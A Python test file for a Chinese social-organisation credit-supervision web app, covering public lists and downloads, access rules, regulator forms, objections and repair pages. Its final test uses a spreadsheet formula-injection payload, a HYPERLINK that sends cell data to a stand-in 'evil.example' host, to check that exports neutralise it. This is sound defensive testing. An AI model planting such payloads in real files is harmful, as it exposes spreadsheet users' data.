"""Credit pages: the public lists and downloads, who sees which profile, the regulators'
forms (with errors next to fields), objections, reports and repair (the inspection pages are
tested in tests/credit/inspections)."""

import io
from datetime import date, timedelta

import sqlalchemy as sa
from openpyxl import load_workbook

from core import clock
from core.extensions import db
from credit.lists import entries, scan
from credit.models import CreditFact, ListEntry, Objection
from tests.credit.factories import notified, record
from tests.helpers import form_post

D = date
TODAY = clock.today()


def _entry(org, regulator, kind=("penalty", "suspension"), on=None, publish=True):
    on = on or TODAY - timedelta(days=40)
    record(org, *kind, on)
    (entry,) = scan.run_scan(None, on)
    notified(regulator, entry, on)
    if publish:
        entries.publish(regulator, entry, "常民信决〔2026〕7号", on + timedelta(days=20))
    return entry


def test_the_public_list_page_searches_filters_and_downloads_published_columns(
        app, client, make, regulator):
    listed = make.org(name="常州市钟楼区暖阳助老协会", district="zhonglou", contact_phone="0519-86661234")
    _entry(listed, regulator)
    hidden = make.org(name="常州市天宁区未公示协会")
    _entry(hidden, regulator, publish=False)
    page = client.get("/credit/public/lists/serious").get_data(as_text=True)
    assert "暖阳助老协会" in page and "未公示协会" not in page and "86661234" not in page
    zhonglou = make.district("zhonglou").id
    assert "暖阳" in client.get(f"/credit/public/lists/serious?district_id={zhonglou}"
                                ).get_data(as_text=True)
    assert "暖阳" not in client.get("/credit/public/lists/serious?q=没有这个"
                                    ).get_data(as_text=True)
    csv = client.get("/credit/public/lists/serious/export.csv")
    text = csv.data.decode("utf-8")
    assert csv.status_code == 200 and text.startswith("\ufeff名单,主体名称,统一社会信用代码")
    assert "暖阳助老协会" in text and "86661234" not in text and "未公示" not in text
    xlsx = client.get("/credit/public/lists/serious/export.xlsx")
    rows = list(load_workbook(io.BytesIO(xlsx.data)).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("名单", "主体名称", "统一社会信用代码") and len(rows) == 2


def test_the_public_subject_page_shows_only_what_was_published(app, client, make, regulator):
    org = make.org()
    _entry(org, regulator, kind=("penalty", "warning"))
    _entry(org, regulator, kind=("basic", "change_revoked"), on=TODAY - timedelta(days=2),
           publish=False)
    page = client.get(f"/credit/public/subjects/{org.id}").get_data(as_text=True)
    assert "警告" in page and "撤销变更登记" not in page


def test_staff_see_their_own_record_and_nobody_elses(app, client, make, login_as, regulator):
    mine, theirs = make.org(), make.org()
    entry = _entry(theirs, regulator, publish=False)
    own_entry = _entry(mine, regulator, publish=False)
    login_as("org_staff", org=mine)
    assert client.get(f"/credit/subjects/{mine.id}").status_code == 200
    assert client.get(f"/credit/subjects/{theirs.id}").status_code == 403
    assert client.get(f"/credit/entries/{entry.id}").status_code == 404
    page = client.get(f"/credit/entries/{own_entry.id}").get_data(as_text=True)
    assert "提出异议" in page and "作出决定并公示" not in page
    assert client.get("/credit/mine").status_code == 302


def test_the_fact_form_shows_errors_next_to_fields_and_saves_nothing(app, client, login_as,
                                                                    society):
    login_as("regulator")
    data = {"subject": society.name, "kind_subtype": "penalty:fine", "occurred_on": "2026-01-05",
            "source_department": "常州市民政局", "document_number": "常民罚〔2026〕1号",
            "evidence_ref": "卷宗"}
    bad = form_post(client, "/credit/facts/new", data)
    assert bad.status_code == 422
    assert 'id="amount_yuan-err"' in bad.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(CreditFact)) == 0
    good = form_post(client, "/credit/facts/new", {**data, "amount_yuan": "60000"})
    assert good.status_code == 302
    assert db.session.scalar(sa.select(CreditFact.amount_yuan)) == 60000


def test_a_regulator_picks_the_subject_by_name_or_code_never_by_an_internal_number(
        app, client, login_as, make):
    login_as("regulator")
    dawn = make.org(name="常州市晨光助老协会")
    dusk = make.org(name="常州市晨光义工联合会")
    fact = {"kind_subtype": "penalty:warning", "occurred_on": "2026-01-05",
            "source_department": "常州市民政局", "document_number": "常民罚〔2026〕2号",
            "evidence_ref": "卷宗"}
    several = form_post(client, "/credit/facts/new", {**fact, "subject": "晨光"})
    page = several.get_data(as_text=True)
    assert several.status_code == 422 and "找到多个主体" in page
    assert dawn.name in page and dusk.name in page and dawn.uscc in page
    assert db.session.scalar(sa.select(sa.func.count()).select_from(CreditFact)) == 0
    chosen = form_post(client, "/credit/facts/new", {**fact, "subject": "晨光",
                                                     "org_id": str(dusk.id)})
    assert chosen.status_code == 302
    by_code = form_post(client, "/credit/facts/new", {**fact, "subject": dawn.uscc,
                                                      "document_number": "常民罚〔2026〕3号"})
    assert by_code.status_code == 302
    assert sorted(db.session.scalars(sa.select(CreditFact.org_id))) == sorted([dusk.id, dawn.id])
    nobody = form_post(client, "/credit/facts/new", {**fact, "subject": "不存在的协会"})
    assert nobody.status_code == 422 and "找不到名称或代码中含" in nobody.get_data(as_text=True)
    started = client.get(f"/credit/facts/new?org_id={dawn.id}").get_data(as_text=True)
    assert f'value="{dawn.name}"' in started  # from the subject's page, already chosen


def test_a_manual_proposal_ticks_the_subjects_facts_never_types_their_numbers(
        app, client, login_as, make, regulator):
    """Issue 15: the grounds of a manual proposal are picked from the subject's own facts, in
    words (day, what, document number); another subject's fact cannot be slipped in."""
    dawn, other = make.org(name="常州市晨光助老协会"), make.org(name="常州市暮色养老服务中心")
    warning = record(dawn, "penalty", "warning", date(2026, 1, 5), document_number="常民罚〔2026〕2号")
    foreign = record(other, "penalty", "warning", date(2026, 1, 6))
    db.session.commit()
    login_as(user=regulator)
    url = f"/credit/entries/new?org_id={dawn.id}"
    page = client.get(url).get_data(as_text=True)
    assert "2026-01-05 · 行政处罚 · 警告 · 常民罚〔2026〕2号" in page
    assert f'type="checkbox" value="{warning.id}"' in page and str(foreign.document_number) not in page
    proposal = {"subject": dawn.name, "org_id": str(dawn.id), "list_type": "abnormal",
                "legal_basis": "《社会组织信用信息管理办法》第十条第（五）项", "reason": "受到警告"}
    none_ticked = form_post(client, url, proposal)
    assert none_ticked.status_code == 422 and "请勾选列入所依据的信用信息" in none_ticked.get_data(
        as_text=True)
    slipped = form_post(client, url, {**proposal, "fact_ids": [str(foreign.id)]})
    assert slipped.status_code in (403, 404, 409, 422)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ListEntry)) == 0
    done = form_post(client, url, {**proposal, "fact_ids": [str(warning.id)]})
    assert done.status_code == 302
    assert db.session.scalar(sa.select(ListEntry)).fact_ids == [warning.id]


def test_regulators_find_facts_by_name_kind_source_and_date(
        app, client, login_as, make, regulator):
    dawn, dusk = make.org(name="常州市晨光助老协会"), make.org(name="常州市暮色养老服务中心")
    record(dawn, "penalty", "warning", date(2026, 1, 5))
    record(dusk, "penalty", "warning", date(2026, 3, 5))
    record(dusk, "complaint", "complaint", date(2026, 3, 9), source_department="市场监管局",
           substantiated=True)
    db.session.commit()
    login_as(user=regulator)
    assert "查找信用信息" in client.get("/credit/").get_data(as_text=True)
    by_name = client.get("/credit/facts?q=晨光").get_data(as_text=True)
    assert dawn.name in by_name and dusk.name not in by_name
    by_date = client.get("/credit/facts?since=2026-03-01&until=2026-03-06").get_data(as_text=True)
    assert dusk.name in by_date and dawn.name not in by_date and "市场监管局" not in by_date
    by_source = client.get("/credit/facts?source=市场监管").get_data(as_text=True)
    assert "市场监管局" in by_source and dawn.name not in by_source
    bad = client.get("/credit/facts?since=not-a-date&kind=nonsense")
    assert bad.status_code == 200  # a bad filter is dropped, never a 500


def test_regulators_find_list_entries_by_subject_name(app, client, login_as, make, regulator):
    listed = _entry(make.org(name="常州市晨光助老协会"), regulator)
    other = _entry(make.org(name="常州市暮色养老服务中心"), regulator)
    db.session.commit()
    login_as(user=regulator)
    page = client.get("/credit/entries?q=晨光").get_data(as_text=True)
    assert listed.subject_name in page and other.subject_name not in page


def test_the_import_page_lists_every_bad_row(app, client, login_as, society):
    login_as("regulator")
    content = ("uscc,kind,subtype,occurred_on,source_department,document_number,evidence_ref\n"
               f"{society.uscc},penalty,warning,2026-02-30,民政局,文号,卷宗\n").encode()
    from tests.helpers import csrf_token

    token = csrf_token(client.get("/credit/facts/import").data)
    response = client.post("/credit/facts/import", data={
        "csrf_token": token, "file": (io.BytesIO(content), "facts.csv")},
        content_type="multipart/form-data")
    assert response.status_code == 422
    assert "occurred_on" in response.get_data(as_text=True)


def test_staff_object_to_an_entry_from_its_page(app, client, make, login_as, regulator):
    org = make.org()
    entry = _entry(org, regulator, publish=False, on=TODAY - timedelta(days=1))
    login_as("org_staff", org=org)
    response = form_post(client, f"/credit/subjects/{org.id}/objection", {
        "target": f"entry:{entry.id}", "reason": "停止活动决定已被撤销"})
    assert response.status_code == 302
    assert db.session.scalar(sa.select(Objection.entry_id)) == entry.id
    assert db.session.get(type(entry), entry.id).state == "objected"


def test_the_dashboard_shows_what_awaits_action(app, client, make, login_as, regulator):
    org = make.org(name="常州市新北区待告知协会")
    record(org, "penalty", "warning", TODAY - timedelta(days=1))
    scan.run_scan(None, TODAY)
    login_as("regulator", user=regulator)
    page = client.get("/credit/").get_data(as_text=True)
    assert "待告知协会" in page and "信用监管工作台" in page


def test_staff_file_the_annual_report_on_a_form(app, client, make, login_as):
    org = make.org()
    login_as("org_staff", org=org)
    response = form_post(client, f"/credit/subjects/{org.id}/annual-report", {
        "year": TODAY.year - 1, "revenue_yuan": "0", "expenditure_yuan": "0",
        "file_ref": "年报.pdf"})
    assert response.status_code == 302
    assert db.session.scalar(sa.select(CreditFact.report_year)) == TODAY.year - 1


def test_repair_form_shows_the_earliest_day(app, client, make, login_as, regulator):
    org = make.org()
    entry = _entry(org, regulator)
    login_as("org_staff", org=org)
    page = client.get(f"/credit/entries/{entry.id}/repair").get_data(as_text=True)
    assert "最早可移出日期" in page


def test_the_repair_form_does_not_show_an_entry_the_subject_may_not_see_yet(
        app, client, make, login_as, regulator):
    """Staff see their own entries from the notice on (entry page, API); the repair form
    showed a proposed entry's reason before any notice (found by tests/security)."""
    org = make.org()
    on = TODAY - timedelta(days=40)
    record(org, "penalty", "suspension", on)
    (proposed,) = scan.run_scan(None, on)
    login_as("org_staff", org=org)
    assert client.get(f"/credit/entries/{proposed.id}").status_code == 404
    page = client.get(f"/credit/entries/{proposed.id}/repair")
    assert page.status_code == 404 and proposed.reason not in page.get_data(as_text=True)
    notified(regulator, proposed, on)  # seen now, but not yet repairable (was a 500)
    assert client.get(f"/credit/entries/{proposed.id}/repair").status_code == 409
    entries.publish(regulator, proposed, "常民信决〔2026〕9号", on + timedelta(days=20))
    assert client.get(f"/credit/entries/{proposed.id}/repair").status_code == 200


def test_pages_speak_english_when_asked(app, client):
    page = client.get("/credit/public/lists?lang=en").get_data(as_text=True)
    assert "Published credit lists" in page and "Serious-dishonesty list" in page


def test_the_public_list_pages_through_long_lists(app, client, make, regulator, monkeypatch):
    from credit import views_public

    monkeypatch.setattr(views_public, "PER_PAGE", 1)
    for n in range(2):
        _entry(make.org(name=f"常州市翻页测试协会{n}"), regulator)
    for n in range(3):
        _entry(make.org(name=f"常州市页码测试协会{n}"), regulator)
    first = client.get("/credit/public/lists/serious").get_data(as_text=True)
    assert "page=2" in first and "共 5 条，5 页" in first  # page numbers, not only "next"
    assert "page=5" in first and "…" in first  # the last page is one click away
    second = client.get("/credit/public/lists/serious?page=2")
    assert second.status_code == 200 and "page=1" in second.get_data(as_text=True)
    last = client.get("/credit/public/lists/serious?page=5").get_data(as_text=True)
    assert 'aria-current="page"' in last and "rel=\"next\"" not in last


def test_a_600k_row_fact_workbook_is_refused_before_any_row_is_read(app, client, login_as,
                                                                      monkeypatch):
    from tests.helpers import count_xlsx_rows, csrf_token, huge_xlsx

    login_as("regulator")
    parsed = count_xlsx_rows(monkeypatch)
    token = csrf_token(client.get("/credit/facts/import").data)
    response = client.post("/credit/facts/import", data={
        "csrf_token": token, "file": (io.BytesIO(huge_xlsx(600_000, ("uscc", "kind"))),
                                      "facts.xlsx")}, content_type="multipart/form-data")
    assert response.status_code == 422
    assert "一次最多导入 5000 行" in response.get_data(as_text=True)
    assert parsed["rows"] == 0
    assert db.session.scalar(sa.select(sa.func.count()).select_from(CreditFact)) == 0


def test_list_downloads_neutralize_cells_a_spreadsheet_would_run(app, client, make, regulator):
    """A subject named like a formula (its manager typed it) reaches the regulator's Excel as
    text: CSV and XLSX cells start with an apostrophe, XLSX cells are never formulas."""
    name = '=HYPERLINK("http://evil.example/?"&A1,"点击查看详情")'
    _entry(make.org(name=name, legal_representative="@SUM(1+1)"), regulator)
    text = client.get("/credit/public/lists/serious/export.csv").data.decode("utf-8-sig")
    assert f"'{name}".replace('"', '""') in text and "'@SUM(1+1)" in text
    assert f",{name[:10]}" not in text.replace('"', "")
    xlsx = client.get("/credit/public/lists/serious/export.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value]
    assert all(c.data_type != "f" for c in cells)
    assert {"'" + name, "'@SUM(1+1)"} <= {c.value for c in cells}
